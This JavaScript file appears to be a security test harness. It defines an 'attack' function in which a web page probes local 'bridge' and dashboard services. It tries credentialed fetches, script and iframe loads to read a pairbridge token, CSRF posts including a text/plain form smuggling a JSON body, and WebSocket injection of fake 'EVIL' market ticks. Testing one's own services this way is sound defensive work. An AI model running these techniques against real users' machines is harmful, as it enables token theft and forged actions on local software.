"use strict";

/**
 * All attempts of a browser page against programs on its user's computer, for any kind of page.
 *
 * `targets`: `bridge` and `dashboard` as host:port, `witness` the address of a server that lets everybody in,
 * `tokenFile` where the token lies as a file, `order` the body of a request that would change the dashboard (with a
 * = in its first string).
 *
 * Resolves to `read`: what came back beside a refusal, and `reached`: whether the browser let the page through to
 * this computer at all.
 */
async function attack({ bridge, dashboard, witness, tokenFile, order }) {
  const read = [];
  const took = (what, text) => text && read.push(`${what}: ${String(text).slice(0, 100)}`);
  const PATIENCE_MS = 4_000;
  const patience = () => new Promise((done) => setTimeout(done, PATIENCE_MS));
  const all = (acts) => Promise.allSettled(acts.map((act) => Promise.race([act(), patience()])));

  const byFetch = (url) => async () => {
    const answer = await fetch(url, { credentials: "include" });
    if (answer.ok) took(url, await answer.text());
  };

  const byTag = (name, attributes) => () =>
    new Promise((done) => {
      const tag = Object.assign(document.createElement(name), attributes);
      tag.onload = () => done(took(`${name} ${attributes.src ?? attributes.href}`, "loaded"));
      tag.onerror = done;
      document.head.append(tag);
    });

  const byFrame = (url) => () =>
    new Promise((done) => {
      const frame = Object.assign(document.createElement("iframe"), { src: url });
      frame.onload = () => {
        const inside = frame.contentDocument?.querySelector("#react-entry-point, [name=pairbridge-token]");
        took(`frame ${url}`, inside?.outerHTML);
        took(`frames in ${url}`, frame.contentWindow?.length);
        done();
      };
      document.body.append(frame);
    });

  const bySocket = (url, ...words) => () =>
    new Promise((done) => {
      const socket = new WebSocket(url);
      socket.onopen = () => words.forEach((word) => socket.send(JSON.stringify(word)));
      socket.onmessage = ({ data }) => JSON.parse(data).type !== "refused" && took(url, data);
      socket.onclose = done;
    });

  const post = `http://${dashboard}/_dash-update-component`;
  const byPost = (options) => async () => {
    const answer = await fetch(post, { method: "POST", body: order, credentials: "include", ...options });
    if (answer.ok) took(post, await answer.text());
  };

  const byBeacon = (type) => async () => void navigator.sendBeacon(post, new Blob([order], { type }));

  const byForm = () =>
    new Promise((done) => {
      const target = Object.assign(document.createElement("iframe"), { name: "answer" });
      const form = Object.assign(document.createElement("form"), { action: post, method: "POST", target: "answer" });
      form.enctype = "text/plain";
      const [name, value] = order.split(/=(.*)/s); // a text/plain form sends name=value: the order has a = in a string
      form.append(Object.assign(document.createElement("input"), { name, value }));
      document.body.append(target, form);
      target.onload = done;
      form.submit();
    });

  const row = ["EVIL", 1, "1.0", "1.0", Date.now(), false];
  const raw = { e: "aggTrade", E: row[4], a: 2, s: "EVIL", p: "1.0", q: "1.0", T: row[4], m: false };
  const ticks = { type: "ticks", seq: 1, rows: [row] };
  const hello = (token) => ({ type: "hello", proto: 1, token, market: "sim", client: "evil", session: "evil" });
  const speech = (token) => [hello(token), { type: "subscribe", symbols: ["EVIL"] }, ticks, raw];

  let reached = false;
  await all([async () => (reached = Boolean(await fetch(witness, { mode: "no-cors" })))]);
  await all([
    ...["", "health", "token.js", "bridge.js"].map((path) => byFetch(`http://${bridge}/${path}`)),
    ...["", "_dash-layout", "_dash-dependencies", "api/signals.csv?watch=1"].map((path) =>
      byFetch(`http://${dashboard}/${path}`),
    ),
    byTag("script", { src: `http://${bridge}/token.js` }),
    byTag("script", { src: `http://${bridge}/bridge.js` }),
    byTag("link", { rel: "stylesheet", href: `http://${bridge}/bridge.css` }),
    byTag("script", { src: tokenFile }),
    byFrame(`http://${bridge}/`),
    byFrame(`http://${dashboard}/`),
    byPost({}),
    byPost({ mode: "no-cors" }),
    byPost({ headers: { "Content-Type": "application/json" } }),
    byBeacon("text/plain"),
    byBeacon("application/json"),
    byForm,
    bySocket(`ws://${dashboard}/api/live`, { follow: 1 }),
    bySocket(`ws://${bridge}/`, ...speech("")),
    bySocket(`ws://${bridge}/`, ...speech("0".repeat(64))),
    bySocket(`ws://${bridge}/`, ticks, raw),
  ]);
  const token = globalThis.PAIRBRIDGE_TOKENS?.[bridge.split(":")[1]];
  if (token) await all([bySocket(`ws://${bridge}/`, ...speech(token))]);
  return { read, reached };
}
